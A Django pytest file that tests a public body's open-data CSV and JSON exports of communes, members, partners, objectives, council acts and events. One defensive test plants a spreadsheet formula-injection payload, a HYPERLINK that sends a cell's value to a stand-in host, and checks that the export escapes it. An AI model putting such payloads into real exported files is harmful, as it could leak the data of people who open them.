import csv
import datetime
import io
import json

import pytest
from django.utils import timezone

from chantiers.models import Objective
from partenaires.models import Partner
from territoire.models import Commune, Member

pytestmark = pytest.mark.django_db


def download(client, path):
    response = client.get(path)
    assert response.status_code == 200
    assert response.streaming
    return response, b"".join(response.streaming_content).decode("utf-8")


def test_communes_csv(client, django_assert_max_num_queries):
    with django_assert_max_num_queries(2):
        response, text = download(client, "/donnees/communes.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="pole-artois-communes.csv"'
    assert text.startswith("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(rows) == 150
    assert list(rows[0]) == [
        "code_insee",
        "nom",
        "siren",
        "codes_postaux",
        "population_municipale",
        "population_totale",
        "millesime",
        "code_departement",
        "code_region",
        "epci_siren",
        "epci_nom",
        "url",
    ]
    lievin = next(row for row in rows if row["code_insee"] == "62510")
    assert lievin["nom"] == "Liévin"
    assert lievin["codes_postaux"] == "62800"
    assert lievin["population_municipale"] == "30113"
    assert lievin["millesime"] == "2026"
    assert lievin["epci_siren"] == "246200364"
    assert lievin["url"] == "http://testserver/territoire/communes/62510-lievin/"
    assert sum(int(row["population_municipale"]) for row in rows) == 644_460


def test_communes_json_is_the_same_data(client):
    response, text = download(client, "/donnees/communes.json")
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="pole-artois-communes.json"'
    records = json.loads(text)
    assert len(records) == 150
    lievin = next(record for record in records if record["code_insee"] == "62510")
    assert lievin["codes_postaux"] == ["62800"]
    assert lievin["population_municipale"] == 30113


def test_files_do_not_depend_on_the_visitors_language(client):
    french = download(client, "/donnees/membres.json")[1]
    english = client.get("/donnees/membres.json", headers={"accept-language": "en"})
    assert b"".join(english.streaming_content).decode() == french


def test_members_rows(client):
    records = json.loads(download(client, "/donnees/membres.json")[1])
    by_id = {record["identifiant"]: record for record in records}
    assert len(by_id) == 4
    assert by_id["henin-carvin"]["nombre_communes"] == 14
    assert by_id["henin-carvin"]["siren"] == "246200299"
    assert by_id["henin-carvin"]["millesime"] == 2026
    assert by_id["henin-carvin"]["url"] == "http://testserver/territoire/henin-carvin/"
    rows = list(csv.reader(io.StringIO(download(client, "/donnees/membres.csv")[1][1:])))
    assert rows[0][:3] == ["identifiant", "nom", "nom_en"]
    assert len(rows) == 5


def test_empty_dataset_is_valid_json(client):
    Commune.objects.update(member=None)
    assert json.loads(download(client, "/donnees/communes.json")[1]) == []


@pytest.mark.parametrize(
    "path", ["/donnees/secrets.csv", "/donnees/communes.xml", "/donnees/communes"]
)
def test_unknown_files_are_404(client, path):
    assert client.get(path).status_code == 404


def test_page_documents_every_dataset(client, django_assert_max_num_queries):
    with django_assert_max_num_queries(6):
        response = client.get("/donnees/")
    html = response.content.decode()
    assert "Licence Ouverte / Open Licence 2.0" in html
    for slug in ("communes", "membres", "partenaires", "objectifs", "actes", "evenements"):
        assert f'href="/donnees/{slug}.csv"' in html and f'href="/donnees/{slug}.json"' in html
    assert '<th scope="row"><code>population_municipale</code></th>' in html
    assert "Millésime des données officielles" in html and "2026" in html
    english = client.get("/en/donnees/").content.decode()
    assert "Open data" in english and 'href="/donnees/communes.csv"' in english


def test_partners_objectives_and_acts_published_only(client, content):
    partners = json.loads(download(client, "/donnees/partenaires.json")[1])
    assert [partner["identifiant"] for partner in partners] == ["syndicat-transports"]
    assert partners[0]["categorie"] == "institution"
    assert partners[0]["url"] == "http://testserver/partenaires/syndicat-transports/"

    content["objective"].members.set(Member.objects.filter(slug="lens-lievin"))
    content["objective"].partners.set(Partner.objects.all())
    objectives = json.loads(download(client, "/donnees/objectifs.json")[1])
    assert [objective["titre"] for objective in objectives] == ["Étudier un tramway Lens-Liévin"]
    assert objectives[0]["chantier"] == "Les mobilités"
    assert objectives[0]["membres"] == ["lens-lievin"]
    # The draft partner is not named, even where it takes part.
    assert objectives[0]["partenaires"] == ["syndicat-transports"]

    rows = list(csv.DictReader(io.StringIO(download(client, "/donnees/actes.csv")[1][1:])))
    assert [row["numero"] for row in rows] == ["2025-07"]
    assert rows[0]["objet"] == "Étude de faisabilité du tramway"
    assert rows[0]["date_seance"] == "2025-03-12"
    assert rows[0]["resultat"] == "adopted"
    assert rows[0]["texte_pdf"] == ""
    assert rows[0]["url"] == f"http://testserver{content['act'].get_absolute_url()}"


def test_objectives_export_costs_constant_queries(client, content, django_assert_max_num_queries):
    for number in range(30):
        Objective.objects.create(
            chantier=content["chantier"],
            title_fr=f"Objectif {number}",
            summary_fr="Résumé.",
            status="published",
        )
    with django_assert_max_num_queries(4):
        records = json.loads(download(client, "/donnees/objectifs.json")[1])
    assert len(records) == 31


def test_a_cell_a_spreadsheet_would_run_as_a_formula_stays_text(client, content):
    Partner.objects.filter(pk=content["partner"].pk).update(
        name_fr='=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")',
        short_name="@SOMME(1+1)",
        description_fr="-2+3 font 1",
    )
    rows = list(csv.DictReader(io.StringIO(download(client, "/donnees/partenaires.csv")[1][1:])))
    cells = rows[0].values()
    assert '\'=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")' in cells
    assert "'@SOMME(1+1)" in cells
    assert "'-2+3 font 1" in cells
    partners = json.loads(download(client, "/donnees/partenaires.json")[1])
    assert partners[0]["nom"].startswith("=HYPERLINK")  # JSON is data, never run


def test_times_are_written_alike_in_csv_and_json(client, content):
    row = next(csv.DictReader(io.StringIO(download(client, "/donnees/actes.csv")[1][1:])))
    record = json.loads(download(client, "/donnees/actes.json")[1])[0]
    assert row["en_ligne_depuis"] == record["en_ligne_depuis"]
    assert len(record["en_ligne_depuis"]) == len("2025-03-12T10:00:00+01:00")


def test_events_published_only_with_their_documented_columns(client, content):
    forum = content["event"]
    forum.time, forum.end_time = datetime.time(18), datetime.time(20, 30)
    forum.registration_url = "https://inscriptions.example.org/forum"
    forum.cancelled_on, forum.cancellation_reason_fr = datetime.date(2025, 5, 1), "Salle fermée."
    forum.save()
    text = download(client, "/donnees/evenements.csv")[1]
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows == [
        {
            "identifiant": str(forum.pk),
            "titre": "Forum du tramway",
            "titre_en": "",
            "description": "Le tramway présenté aux habitants.",
            "date_debut": "2025-05-20",
            "heure_debut": "18:00",
            "date_fin": "",
            "heure_fin": "20:30",
            "lieu": "Liévin",
            "inscription": "https://inscriptions.example.org/forum",
            "annule_le": "2025-05-01",
            "motif_annulation": "Salle fermée.",
            "modifie_le": timezone.localdate(forum.updated_at).isoformat(),
            "url": f"http://testserver{forum.get_absolute_url()}",
            "ical": f"http://testserver/agenda/{forum.pk}/evenement.ics",
        }
    ]
    page = client.get("/donnees/").content.decode()
    for column in rows[0]:
        assert f"<code>{column}</code>" in page, column
    assert json.loads(download(client, "/donnees/evenements.json")[1])[0]["url"] == (
        f"http://testserver{forum.get_absolute_url()}"
    )
